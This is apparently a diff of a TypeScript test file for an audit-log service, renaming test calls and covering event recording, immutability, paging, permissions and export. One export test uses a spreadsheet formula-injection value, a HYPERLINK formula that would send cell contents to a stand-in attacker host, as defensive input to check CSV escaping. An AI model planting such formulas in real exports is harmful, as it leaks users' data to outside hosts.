@@ -1,5 +1,5 @@
 import assert from 'node:assert/strict';
-import { after, before, describe, it } from 'node:test';
+import { after, before, describe, test } from 'node:test';
 import { startTestService, type TestService } from '../api/test-service.ts';
 import { deleteAuditEventsOlderThan } from '../../packages/server/src/modules/foundation/audit-log/index.ts';
 import { invite, openBrowser, setUpOwner, type Browser } from './browser.ts';
@@ -17,7 +17,7 @@ describe('the audit log', () => {
   });
   after(() => service.stop());
 
-  it('says who, when, from where, what, on what and with which result', async () => {
+  test('says who, when, from where, what, on what and with which result', async () => {
     const agent = { 'user-agent': 'browser of the test' };
     await owner.request('PATCH', `/v1/projects/${service.projectId}`, { name: 'Renamed' }, agent);
     const event = await newest('project.updated');
@@ -39,7 +39,7 @@ describe('the audit log', () => {
     assert.match(event.requestId, /^req_/);
   });
 
-  it('every change leaves an event, by people and by keys', async () => {
+  test('every change leaves an event, by people and by keys', async () => {
     const made: [string, string, unknown, string][] = [
       ['POST', '/v1/api-keys', { name: 'k' }, 'api_key.created'],
       ['PATCH', '/v1/organization', { name: 'O' }, 'organization.updated'],
@@ -68,7 +68,7 @@ describe('the audit log', () => {
     );
   });
 
-  it('an idempotent replay and a refused change leave none', async () => {
+  test('an idempotent replay and a refused change leave none', async () => {
     const count = async () => Number((await sql('select count(*) from audit_events')).rows[0].count);
     const headers = { 'idempotency-key': 'once' };
     const body = { prompt: 'y' };
@@ -80,7 +80,7 @@ describe('the audit log', () => {
     assert.equal(await count(), before);
   });
 
-  it('refused sign-ins are recorded, of people and of unknown users', async () => {
+  test('refused sign-ins are recorded, of people and of unknown users', async () => {
     for (const email of ['ada@example.com', 'eve@example.com']) {
       await openBrowser(service).request('POST', '/auth/sign-in', { email, password: 'wrong' });
       const event = await newest('session.created');
@@ -89,7 +89,7 @@ describe('the audit log', () => {
     }
   });
 
-  it('no statement changes or removes an event; only the age setting removes old ones', async () => {
+  test('no statement changes or removes an event; only the age setting removes old ones', async () => {
     for (const statement of [
       `update audit_events set action = 'x'`,
       'delete from audit_events',
@@ -106,7 +106,7 @@ describe('the audit log', () => {
     assert.equal(await deleteAuditEventsOlderThan(service.api.platform.database, 30), 0);
   });
 
-  it('pages and filters return each event once', async () => {
+  test('pages and filters return each event once', async () => {
     const seen: string[] = [];
     let cursor = '';
     do {
@@ -130,7 +130,7 @@ describe('the audit log', () => {
     assert.equal((await owner.request('GET', '/v1/audit-events?cursor=x')).status, 400);
   });
 
-  it('CSV contains no formula that a spreadsheet runs, and JSONL is one object a line', async () => {
+  test('CSV contains no formula that a spreadsheet runs, and JSONL is one object a line', async () => {
     const name = '=HYPERLINK("https://evil.example?x="&A1,"click")';
     await service.request('POST', '/v1/api-keys', { body: { name } });
     await service.request('POST', '/v1/api-keys', { body: { name: '  @SUM(1)\nnext, "line"' } });
@@ -150,7 +150,7 @@ describe('the audit log', () => {
     assert.equal((await owner.request('GET', '/v1/audit-events/export?format=xml')).status, 400);
   });
 
-  it('a long log is exported as a stream, completely', async () => {
+  test('a long log is exported as a stream, completely', async () => {
     await sql(
       `insert into audit_events (organization_id, actor_kind, actor_name, action, result)
        select $1, 'system', 'system', 'test.filled', 'success' from generate_series(1, 5000)`,
@@ -162,7 +162,7 @@ describe('the audit log', () => {
     assert.ok(performance.now() - startedMs < 20_000);
   });
 
-  it('an editor cannot read it', async () => {
+  test('an editor cannot read it', async () => {
     const editor = await invite(service, owner, { email: 'editor@example.com', role: 'editor' });
     assert.equal((await editor.request('GET', '/v1/audit-events')).json.code, 'insufficient_scope');
     assert.equal((await editor.request('GET', '/v1/audit-events/export?format=csv')).json.code, 'insufficient_scope');
